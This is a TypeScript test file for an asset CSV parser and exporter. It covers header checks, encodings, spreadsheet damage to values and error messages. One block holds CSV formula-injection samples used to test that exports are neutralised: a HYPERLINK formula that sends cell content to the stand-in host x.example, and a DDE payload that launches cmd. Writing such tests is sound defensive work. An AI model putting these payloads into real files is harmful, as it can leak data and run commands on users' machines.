import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { CsvError, decodeAssetCsv, formatAssetCsv, parseAssetCsv, readAssetCsv } from './asset-csv.js';

/** The problems `parseAssetCsv` refuses `text` with (as file f.csv); fails the test when it takes it. */
const fail = (text: string): readonly string[] => {
  try {
    parseAssetCsv(text, 'f.csv');
  } catch (err) {
    if (err instanceof CsvError) return err.problems;
    throw err;
  }
  throw new Error('expected a CsvError');
};

describe('asset CSV', () => {
  it('parses rows, merges identifiers per asset and keeps extra columns as attributes', () => {
    const rows = parseAssetCsv('identifier,id_type,erp_asset_id,erp_module,destination,site\ntag-1,tag,A1,fixed-assets,,P1\n"PIN,1",pin,A1,fixed-assets,,P1\ntag-2,,A2,inventory,erp2,\n');
    expect(rows).toEqual([
      { asset: { erpAssetId: 'A1', erpModule: 'fixed-assets', attributes: { site: 'P1' } }, identifiers: [{ type: 'tag', value: 'tag-1', erpAssetId: 'A1' }, { type: 'pin', value: 'PIN,1', erpAssetId: 'A1' }] },
      { asset: { erpAssetId: 'A2', erpModule: 'inventory', destination: 'erp2', attributes: {} }, identifiers: [{ type: 'tag', value: 'tag-2', erpAssetId: 'A2' }] },
    ]);
    expect(parseAssetCsv(formatAssetCsv(rows))).toEqual(rows);
  });

  it('exports with CRLF line ends, as the reports write their CSVs', () => {
    const text = formatAssetCsv([{ asset: { erpAssetId: 'A1', erpModule: 'fixed-assets', attributes: { note: 'two\nlines' } }, identifiers: [{ type: 'tag', value: 'tag-1', erpAssetId: 'A1' }] }]);
    expect(text).toBe('identifier,id_type,erp_asset_id,erp_module,destination,note\r\ntag-1,tag,A1,fixed-assets,,"two\nlines"\r\n');
  });

  it('names the line and column at fault', () => {
    expect(() => parseAssetCsv('identifier,id_type,erp_asset_id\ntag-1,bogus,A1\n,tag,A2\n', 'm.csv')).toThrow(CsvError);
    try {
      parseAssetCsv('identifier,id_type,erp_asset_id\ntag-1,bogus,A1\n,tag,A2\n', 'm.csv');
    } catch (err) {
      expect((err as CsvError).problems).toEqual(['m.csv line 2: id_type "bogus" is not one of tag, tracker, pin, vin, serial, device-serial, external-ref, machine-id, unit-id, erp', 'm.csv line 3: column identifier is empty']);
    }
  });
});

describe('asset CSV: a mistyped id_type or destination', () => {
  it('is named with the value it is one or two letters off, in any case; one far from all of them is not guessed at', () => {
    const problems = (text: string): readonly string[] => {
      try {
        readAssetCsv(text, 'm.csv', { destinations: ['erp', 'erp-eu'] });
      } catch (err) {
        if (err instanceof CsvError) return err.problems;
        throw err;
      }
      return [];
    };
    expect(problems('identifier,id_type,erp_asset_id,destination\ntag-1,tagg,A1,\ntag-2,Serail,A2,\ntag-3,bogus,A3,ERP\ntag-4,tag,A4,sap\n')).toEqual([
      'm.csv line 2: id_type "tagg" is not one of tag, tracker, pin, vin, serial, device-serial, external-ref, machine-id, unit-id, erp; did you mean tag?',
      'm.csv line 3: id_type "serail" is not one of tag, tracker, pin, vin, serial, device-serial, external-ref, machine-id, unit-id, erp; did you mean serial?',
      'm.csv line 4: id_type "bogus" is not one of tag, tracker, pin, vin, serial, device-serial, external-ref, machine-id, unit-id, erp',
      'm.csv line 4: destination "ERP" is not configured (destinations: erp, erp-eu); did you mean erp?',
      'm.csv line 5: destination "sap" is not configured (destinations: erp, erp-eu)',
    ]);
  });
});

describe('asset CSV: what spreadsheets and ERP exports hand us', () => {

  it('keeps attribute column names as written: rules read lastServiceHours, expectedUnits', () => {
    const rows = parseAssetCsv('Identifier,ID_Type,ERP_Asset_ID,erp_module,destination,lastServiceHours,expectedUnits\ntag-1,tag,A1,fixed-assets,,250,10000\n');
    expect(rows[0]?.asset.attributes).toEqual({ lastServiceHours: '250', expectedUnits: '10000' });
    expect(parseAssetCsv(formatAssetCsv(rows))).toEqual(rows);
  });

  it('reads a BOM, CRLF line ends and quoted commas and line breaks', () => {
    const rows = parseAssetCsv('\uFEFFidentifier,id_type,erp_asset_id,erp_module,destination,note\r\n"PIN,1",pin,A1,fixed-assets,,"two\r\nlines"\r\n');
    expect(rows).toEqual([{ asset: { erpAssetId: 'A1', erpModule: 'fixed-assets', attributes: { note: 'two\r\nlines' } }, identifiers: [{ type: 'pin', value: 'PIN,1', erpAssetId: 'A1' }] }]);
  });

  it("reads Excel's sep= first line as the separator, not as the header, and counts lines from it", () => {
    const expected = [{ asset: { erpAssetId: 'A1', erpModule: 'fixed-assets', attributes: { note: '1,5' } }, identifiers: [{ type: 'tag', value: 'tag-1', erpAssetId: 'A1' }] }];
    expect(parseAssetCsv('sep=;\r\nidentifier;id_type;erp_asset_id;note\r\ntag-1;tag;A1;1,5\r\n')).toEqual(expected);
    expect(parseAssetCsv('\uFEFFSEP=,\nidentifier,id_type,erp_asset_id,note\ntag-1,tag,A1,"1,5"\n')).toEqual(expected);
    expect(parseAssetCsv('sep=\t\nidentifier\tid_type\terp_asset_id\tnote\ntag-1\ttag\tA1\t1,5\n')).toEqual(expected);
    expect(fail('\uFEFFsep=;\nidentifier;id_type;erp_asset_id\n\n;tag;A2\n')).toEqual(['f.csv line 4: column identifier is empty']);
    expect(fail('sep=;;\nidentifier;id_type;erp_asset_id\ntag-1;tag;A1\n')).toEqual([
      'f.csv line 1: "sep=;;" names no separator a CSV can use (it is Excel\'s line naming the one separator character, as in "sep=;" or "sep=,"); fix or delete the line and import the file again',
    ]);
  });

  it('trims every cell, quoted or not, keeping the spaces inside a value: a quoted " A1 " is asset A1', () => {
    expect(parseAssetCsv('identifier,id_type,erp_asset_id,site\n" tag 1 ",tag," A1 ", " Plant 7 "\ntag-2,tag,A1,Plant 7\n')).toEqual([
      { asset: { erpAssetId: 'A1', erpModule: 'fixed-assets', attributes: { site: 'Plant 7' } }, identifiers: [{ type: 'tag', value: 'tag 1', erpAssetId: 'A1' }, { type: 'tag', value: 'tag-2', erpAssetId: 'A1' }] },
    ]);
  });

  it('reads a semicolon-separated file whose lines end in CR alone ("CSV (Macintosh)"), with decimal commas in its cells', () => {
    expect(parseAssetCsv('identifier;id_type;erp_asset_id;cost\rtag-1;tag;A1;1500,50\r')).toEqual([
      { asset: { erpAssetId: 'A1', erpModule: 'fixed-assets', attributes: { cost: '1500,50' } }, identifiers: [{ type: 'tag', value: 'tag-1', erpAssetId: 'A1' }] },
    ]);
  });

  it('names the real line after blank lines and quoted line breaks', () => {
    expect(fail('identifier,id_type,erp_asset_id\n\ntag-1,tag,A1\n\n,tag,A2\n')).toEqual(['f.csv line 5: column identifier is empty']);
    expect(fail('identifier,id_type,erp_asset_id,note\r\ntag-1,tag,A1,"a\r\nb"\r\n,tag,A2,\r\n')).toEqual(['f.csv line 4: column identifier is empty']);
  });

  it('says what is wrong with a header it cannot use', () => {
    expect(fail('identifier|id_type|erp_asset_id\ntag-1|tag|A1\n')).toEqual([
      'f.csv line 1: the header has no column identifier, erp_asset_id (found "identifier|id_type|erp_asset_id"); columns are separated by commas (or, when the header has none, semicolons or tabs; or by what a first line "sep=;" names): identifier,id_type,erp_asset_id,erp_module,destination,<attributes...>',
    ]);
    expect(fail('identifier,id_type,erp_asset_id,Identifier\ntag-1,tag,A1,x\n')).toEqual(['f.csv line 1: column identifier appears twice in the header']);
  });

  it('refuses a core column written another way, which would be read as an attribute and leave every row at the default', () => {
    // `idtype`: the PIN would be stored as a tag, and a feed matching by PIN would never find it.
    expect(fail('identifier,idtype,erp_asset_id\nWNCE0803PAAL00542,pin,A1\n')).toEqual([
      'f.csv line 1: column "idtype" is not one assetbridge reads, but looks like id_type: name it id_type (read as an attribute, every row\'s id_type would be left out)',
    ]);
    expect(fail('identifier,id_type,erp_asset_id,ERP Module,Destinaton\ntag-1,tag,A1,maintenance,erp\n')).toEqual([
      'f.csv line 1: column "ERP Module" is not one assetbridge reads, but looks like erp_module: name it erp_module (read as an attribute, every row\'s erp_module would be left out)',
      'f.csv line 1: column "Destinaton" is not one assetbridge reads, but looks like destination: name it destination (read as an attribute, every row\'s destination would be left out)',
    ]);
    expect(fail('identifier,erpAssetId\ntag-1,A1\n')[1]).toBe('f.csv line 1: column "erpAssetId" is not one assetbridge reads, but looks like erp_asset_id: name it erp_asset_id (read as an attribute, every row\'s erp_asset_id would be left out)');
    // Attribute names that only resemble one stay attributes: a type, a module, a second destination.
    expect(parseAssetCsv('identifier,id_type,erp_asset_id,type,module,destination_site\ntag-1,tag,A1,excavator,x,ROT\n')[0]?.asset.attributes).toEqual({ type: 'excavator', module: 'x', destination_site: 'ROT' });
  });

  it('refuses one identifier given to two assets, naming both lines', () => {
    expect(fail('identifier,id_type,erp_asset_id\ntag-1,tag,A1\n TAG-1 ,tag,A2\n')).toEqual(['f.csv line 3: tag "TAG-1" is already given to asset A1 on line 2; an identifier can name only one asset']);
    // The same identifier of another type, or twice for the same asset, is fine.
    expect(parseAssetCsv('identifier,id_type,erp_asset_id\ntag-1,tag,A1\ntag-1,serial,A2\nTAG-1,tag,A1\n').map((r) => r.identifiers)).toEqual([
      [{ type: 'tag', value: 'tag-1', erpAssetId: 'A1' }],
      [{ type: 'serial', value: 'tag-1', erpAssetId: 'A2' }],
    ]);
  });

  it('reads id_type in any case, and refuses an identifier a spreadsheet turned into scientific notation', () => {
    expect(parseAssetCsv('identifier,id_type,erp_asset_id\nWNCE0803PAAL00542,PIN,A1\nSN-1,Serial,A1\n')[0]?.identifiers.map((i) => i.type)).toEqual(['pin', 'serial']);
    expect(fail('identifier,id_type,erp_asset_id\n3.5604E+14,tag,A1\n356040000000001,tag,A2\n1E5-X,tag,A3\n')).toEqual([
      'f.csv line 2: identifier "3.5604E+14" is a number a spreadsheet rewrote in scientific notation (its digits are lost); format the column as Text, re-enter the identifiers and save again',
    ]);
  });

  it('warns of codes a spreadsheet turned into dates, naming the line and column, and imports them as they are', () => {
    const warnings: string[] = [];
    const text = 'identifier,id_type,erp_asset_id,sku,inService,site\nOct-26,serial,A1,2-Jan,10/1/2026,Oct-26\ntag-2,tag,10/1/2026 0:00,OCT-26,,\nMAR-12,tag,A3,01.10.2026,,\n';
    const updates = readAssetCsv(text, 'f.csv', { warnings });
    expect(updates.map((u) => u.identifiers[0]?.value)).toEqual(['Oct-26', 'tag-2', 'MAR-12']);
    const why = '" looks like a date a spreadsheet made of the value (it saves 2026-10 as Oct-26, 1-2 as 2-Jan, 2026-10-01 as 10/1/2026); if it was, the value is lost: re-enter it in a column formatted as Text (or open the original with Data → From Text/CSV, the column set to Text) and import the file again';
    // Dates in attribute columns that are no codes (inService, site) are not warned of; codes in capitals (OCT-26, MAR-12) neither.
    expect(warnings).toEqual([
      `f.csv line 2, column identifier: "Oct-26${why}`,
      `f.csv line 2, column sku: "2-Jan${why}`,
      `f.csv line 3, column erp_asset_id: "10/1/2026 0:00${why}`,
      `f.csv line 4, column sku: "01.10.2026${why}`,
    ]);
  });

  it('refuses an erp row that names something else than the asset (it would map nothing), pointing at external-ref', () => {
    expect(fail('identifier,id_type,erp_asset_id\nEQ-1,ERP,EQ-1\n10004711,erp,EQ-1\n')).toEqual([
      'f.csv line 3: id_type erp is for a row naming the asset itself ("EQ-1,erp,EQ-1"), not "10004711"; for another number the asset is known by, use id_type external-ref',
    ]);
  });

  it('refuses rows of one asset that disagree about its module, destination or attributes', () => {
    expect(fail('identifier,id_type,erp_asset_id,erp_module,destination,site\ntag-1,tag,A1,inventory,erp1,P1\ntag-2,tag,A1,fixed-assets,erp2,P2\ntag-3,tag,A1,,,\n')).toEqual([
      'f.csv line 3: asset A1 has erp_module "fixed-assets" here but "inventory" on line 2',
      'f.csv line 3: asset A1 has destination "erp2" here but "erp1" on line 2',
      'f.csv line 3: asset A1 has site "P2" here but "P1" on line 2',
    ]);
  });

  it('with inventory, refuses a quantity that is not a whole number, naming the line, asset and value', () => {
    const csv = 'identifier,id_type,erp_asset_id,sku,qty\nt1,tag,P-1,S,ten\nt2,tag,P-2,S,-5\nt3,tag,P-3,S,0x10\nt4,tag,P-4,S,40\nt5,tag,P-5,S,\nt6,tag,P-6,S,0\n';
    expect(() => readAssetCsv(csv, 'p.csv', { quantityAttribute: 'qty' })).toThrow(CsvError);
    try {
      readAssetCsv(csv, 'p.csv', { quantityAttribute: 'qty' });
    } catch (err) {
      const hint = 'the quantity attribute (rules.inventory.quantityAttribute) must be a whole number of units one tag stands for, from 0 to 1000000000 (e.g. 40), or empty for 1; fix the cell';
      expect((err as CsvError).problems).toEqual([`p.csv line 2: asset P-1 has qty "ten": ${hint}`, `p.csv line 3: asset P-2 has qty "-5": ${hint}`, `p.csv line 4: asset P-3 has qty "0x10": ${hint}`]);
    }
    expect(readAssetCsv(csv.split('\n').filter((l) => !/,(ten|-5|0x10)$/.test(l)).join('\n'), 'p.csv', { quantityAttribute: 'qty' }).map((u) => u.attributes.qty)).toEqual(['40', '', '0']);
    expect(readAssetCsv(csv, 'p.csv')).toHaveLength(6); // no inventory: the column is an attribute like any other
    // More than a billion units on one tag: refused, as counts summed from such tags would not be exact.
    expect(() => readAssetCsv('identifier,id_type,erp_asset_id,sku,qty\nt1,tag,P-1,S,9007199254740991\n', 'p.csv', { quantityAttribute: 'qty' })).toThrow(
      /p\.csv line 2: asset P-1 has qty "9007199254740991": .* from 0 to 1000000000 /,
    );
  });

  it('exports an asset that has no tracking identifiers, and reads it back', () => {
    const rows = [{ asset: { erpAssetId: 'TRUCK-7', erpModule: 'fleet', attributes: { lastServiceKm: '15000' } }, identifiers: [] }];
    expect(parseAssetCsv(formatAssetCsv(rows))).toEqual(rows);
  });

  it('reads the separator of a spreadsheet saved where the comma is the decimal mark (;), or as Unicode Text (tab)', () => {
    const expected = [{ asset: { erpAssetId: 'A1', erpModule: 'fixed-assets', attributes: { cost: '1,5' } }, identifiers: [{ type: 'tag', value: 'tag-1', erpAssetId: 'A1' }] }];
    expect(parseAssetCsv('identifier;id_type;erp_asset_id;cost\r\ntag-1;tag;A1;"1,5"\r\n')).toEqual(expected);
    expect(parseAssetCsv('\uFEFFidentifier\tid_type\terp_asset_id\tcost\ntag-1\ttag\tA1\t1,5\n')).toEqual(expected);
  });
});

describe('asset CSV file encodings', () => {
  const bytes = (...parts: (string | number[])[]): Uint8Array => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));

  it('reads UTF-8 with or without a BOM, and UTF-16 with its BOM (Excel "Unicode Text")', () => {
    const text = 'identifier,id_type,erp_asset_id\nGrúa-7,tag,A1\n';
    expect(decodeAssetCsv(bytes(text))).toBe(text);
    expect(parseAssetCsv(decodeAssetCsv(bytes([0xef, 0xbb, 0xbf], text)))[0]?.identifiers[0]?.value).toBe('Grúa-7');
    expect(decodeAssetCsv(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))).toBe(text);
    expect(decodeAssetCsv(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]))).toBe(text);
  });

  it('refuses a file that is not UTF-8 (Windows-1252 from Excel), naming the line, instead of storing identifiers that never match', () => {
    // "Grúa-7" in Windows-1252: ú is the single byte 0xFA.
    const file = bytes('identifier,id_type,erp_asset_id\r\ntag-1,tag,A1\r\nGr', [0xfa], 'a-7,tag,A2\r\n');
    expect(() => decodeAssetCsv(file, 'w.csv')).toThrow(CsvError);
    expect(() => decodeAssetCsv(file, 'w.csv')).toThrow('w.csv line 3: not UTF-8 text ("Gr\uFFFDa-7,tag,A2"); save the file as UTF-8 (in Excel: "CSV UTF-8") and import it again');
  });

  it('refuses a file holding a NUL character (UTF-16 without its BOM reads as valid UTF-8 with one in every other byte), naming the line, instead of storing "tag-1\\0"', () => {
    const hint = 'the file is not CSV text, or UTF-16 without its byte-order mark; save it as UTF-8 (in Excel: "CSV UTF-8") and import it again';
    expect(() => decodeAssetCsv(Buffer.from('identifier,id_type,erp_asset_id\ntag-1,tag,A1\n', 'utf16le'), 'u.csv')).toThrow(`u.csv line 1: a NUL character (at character 2 of the line): ${hint}`);
    expect(() => decodeAssetCsv(bytes('identifier,id_type,erp_asset_id\r\ntag-1\0,tag,A1\r\n'), 'n.csv')).toThrow(`n.csv line 2: a NUL character (at character 6 of the line): ${hint}`);
    expect(() => decodeAssetCsv(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('identifier,id_type,erp_asset_id\nt\0,tag,A1\n', 'utf16le')]), 'w.csv')).toThrow('w.csv line 2: a NUL character (at character 2 of the line)');
  });
});

describe('asset CSV: cells a spreadsheet would run as formulas', () => {
  const hostile = [
    {
      asset: { erpAssetId: '-EQ-7', erpModule: 'fixed-assets', attributes: { '=name': '=HYPERLINK("http://x.example/?"&A1,"open")', site: "@SUM(1+1)*cmd|' /C calc'!A0", cost: '-1500', note: "'=already guarded" } },
      identifiers: [
        { type: 'serial' as const, value: '+49 30 1234', erpAssetId: '-EQ-7' },
        { type: 'tag' as const, value: "'+tag", erpAssetId: '-EQ-7' },
        { type: 'external-ref' as const, value: '-5', erpAssetId: '-EQ-7' },
      ],
    },
  ];

  it('exports them behind a quote, so no cell opens as a formula, and a re-import reads back what was exported', () => {
    const text = formatAssetCsv(hostile);
    const cells: string[][] = parse(text);
    for (const cell of cells.flat()) expect(cell === '-5' || cell === '-1500' || !/^[=+\-@\t\r]/.test(cell), cell).toBe(true);
    expect(cells[0]).toContain("'=name");
    expect(cells[1]?.slice(0, 3)).toEqual(["'+49 30 1234", 'serial', "'-EQ-7"]);
    expect(cells[2]?.[0]).toBe("''+tag");
    expect(parseAssetCsv(text)).toEqual(hostile);
  });

  it('reads a cell a spreadsheet kept its text quote on (\'=x) as the value, and leaves other quotes alone', () => {
    const rows = parseAssetCsv("identifier,id_type,erp_asset_id,note\n'@tag-1,tag,A1,it's fine\n");
    expect(rows[0]?.identifiers[0]?.value).toBe('@tag-1');
    expect(rows[0]?.asset.attributes).toEqual({ note: "it's fine" });
  });
});

describe('asset CSV rows that are not valid CSV', () => {
  const fix = 'a value holding a quote must be in quotes as a whole, with each quote inside doubled ("5"" pipe")';

  it('name the line the row starts on (after quoted CRLF line breaks) and the column, and say how to fix it', () => {
    const head = 'identifier,id_type,erp_asset_id,note\r\ntag-1,tag,A1,"two\r\nlines"\r\n';
    expect(fail(`${head}tag-2,tag,A2,"never closed\r\ntag-3,tag,A3,x\r\n`)).toEqual([`f.csv line 4, column note: a quoted value is never closed (the rest of the file would be read into it); close its quote: ${fix}`]);
    expect(fail(`${head}tag-2,tag,A2,5" pipe\r\n`)).toEqual([`f.csv line 4, column note: a quote in the middle of a value; ${fix}`]);
    expect(fail(`${head}\r\ntag-2,tag,A2,"5" pipe\r\n`)).toEqual([`f.csv line 5, column note: text after the closing quote of a quoted value; ${fix}`]);
  });

  it('say which row has more or fewer cells than the header, with every other problem, rather than lose a value', () => {
    expect(fail('identifier,id_type,erp_asset_id,cost\ntag-1,tag,A1,1,5\ntag-2,tag,A2\n,tag,A3,7\ntag-4,tag,A4,,\n')).toEqual([
      'f.csv line 2: 5 cells but the header has 4 columns, so "5" (cell 5) would be lost; a value holding the separator must be in quotes ("1,5"), or the header needs a name for the column',
      'f.csv line 3: 3 cells but the header has 4 columns (none for cost); give every row a cell for every column, an empty one to clear a value',
      'f.csv line 4: column identifier is empty',
    ]);
  });
});

describe('asset CSV with a problem on every row', () => {
  it('keeps every problem, but its message lists the first 50 and counts the rest', () => {
    const rows = Array.from({ length: 52 }, (_, i) => `tag-${i},tga,A${i}`);
    let err: unknown;
    try {
      parseAssetCsv(`identifier,id_type,erp_asset_id\n${rows.join('\n')}\n`, 'f.csv');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(CsvError);
    const csv = err as CsvError;
    expect(csv.problems).toHaveLength(52);
    const lines = csv.message.split('\n');
    expect(lines).toHaveLength(51);
    expect(lines[0]).toBe(csv.problems[0]);
    expect(lines[49]).toBe(csv.problems[49]);
    expect(lines[50]).toBe('… and 2 more problem(s) not shown (52 in all): fix those above, which are often the same mistake on every row, and read the file again');
    // Up to 50, all of them and nothing more.
    expect(fail(`identifier,id_type,erp_asset_id\n${rows.slice(0, 50).join('\n')}\n`)).toHaveLength(50);
    expect(new CsvError(['a', 'b']).message).toBe('a\nb');
  });
});
